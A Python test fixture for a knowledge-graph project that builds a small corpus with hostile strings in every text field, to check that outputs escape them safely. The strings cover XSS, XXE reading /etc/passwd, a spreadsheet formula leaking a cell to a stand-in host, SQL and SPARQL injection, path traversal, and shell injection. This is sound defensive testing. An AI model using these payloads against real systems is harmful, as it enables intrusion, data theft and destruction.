"""What hostile text looks like, an entry an attack: each goes through every output in `test_hostile_outputs.py`."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal

from kg.identity import entity_iri
from kg.types import ArticleRecord, Corpus, DocumentRecord, Entity, Evidence, Observation, Quantity, Span, Statement
from kg.vocabulary import Kind, Modality, Predicate

PAYLOADS: dict[str, str] = {
    "html element": "<script>alert(1)</script>",
    "html attribute": '" onmouseover="alert(1)" x="',
    "html image": "<img src=x onerror=alert(1)>",
    "html comment": "<!--<script>",
    "html end of script": "</script><svg/onload=alert(1)>",
    "html end of title": "</title></style></textarea><script>alert(1)</script>",
    "script address": "javascript:alert(1)//",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "xml end of section": "]]><evil/>",
    "formula": '=HYPERLINK("http://x.example/"&A1)',
    "formula plus": "+1+cmd|'/C calc'!A0",
    "formula at": "@SUM(1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a space": " =1+1",
    "full-width formula": "＝1+1",
    "csv row": '甲"\r\n乙,丙,"丁',
    "sparql literal": '甲" } ; DROP ALL ; INSERT DATA { <x:a> <x:b> "乙',
    "turtle literal": '甲"""@zh . <x:a> <x:b> <x:c> . <x:a> <x:b> """乙',
    "turtle iri": "甲> <x:b> <x:c> . <x:d",
    "json": '"},{"kind":"statement"',
    "backslashes": '\\\\" \\n \\u0022',
    "log line": "甲\n2026-01-01 root GET /admin 200",
    "terminal": "甲\x1b[2J\x1b]0;title\x07",
    "null and controls": "甲\x00\x08\x7f\x85乙",
    "right to left": "甲\u202e\u2066gpj.exe\u2069",
    "line separators": "甲\u2028乙\u2029丙",
    "half a character": "甲\ud83d乙",
    "noncharacter": "甲\ufffe\uffff",
    "sql": "甲'; DROP TABLE document; --",
    "fts": '甲" OR name:* NEAR("乙',
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con.txt",
    "shell": "$(touch /tmp/pwned)`id`;|&",
    "format": "%s%n{0.__class__}",
}
"""Attack → text. No name of the real world is in them."""


def make_hostile(payload: str) -> Corpus:
    """A small corpus with `payload` in every field that text from a page can reach."""
    document = DocumentRecord(
        f"{payload}.txt", f"pages/{payload}.txt", "2022-01-02", "0" * 64, (ArticleRecord(payload, "", Span(0, 90)),)
    )
    zone = Entity(
        entity_iri(Kind.ZONE, f"区{payload}"), Kind.ZONE, payload, (f"区{payload}",), (), (document.id,), (payload,)
    )
    company = Entity(
        entity_iri(Kind.COMPANY, payload), Kind.COMPANY, f"{payload}科技有限公司", (payload,), (), (document.id,)
    )
    project = replace(company, id=entity_iri(Kind.PROJECT, payload), kind=Kind.PROJECT, name=f"{payload}项目")
    person = replace(company, id=entity_iri(Kind.PERSON, payload), kind=Kind.PERSON)
    evidence = (Evidence(document.id, payload, 0, 9, payload, "signed.place_signs_list"),)
    amount = Quantity(Decimal(5), "亿元", None, "CNY")
    statements = (
        Statement(zone.id, Predicate.SIGNED, company.id, Modality.FACT, evidence, amount, "2022-01"),
        Statement(company.id, Predicate.BUILDS, project.id, Modality.PLANNED, evidence),
        Statement(person.id, Predicate.HOLDS_POST, company.id, Modality.FACT, evidence, post=payload),
    )
    figures = (Observation(zone.id, payload, Quantity(Decimal("7.5"), payload), evidence, "2021", Decimal(1), payload),)
    entities = tuple(sorted((zone, company, project, person), key=lambda e: e.id))
    return Corpus((document,), entities, statements, figures, {e.id: e for e in entities})
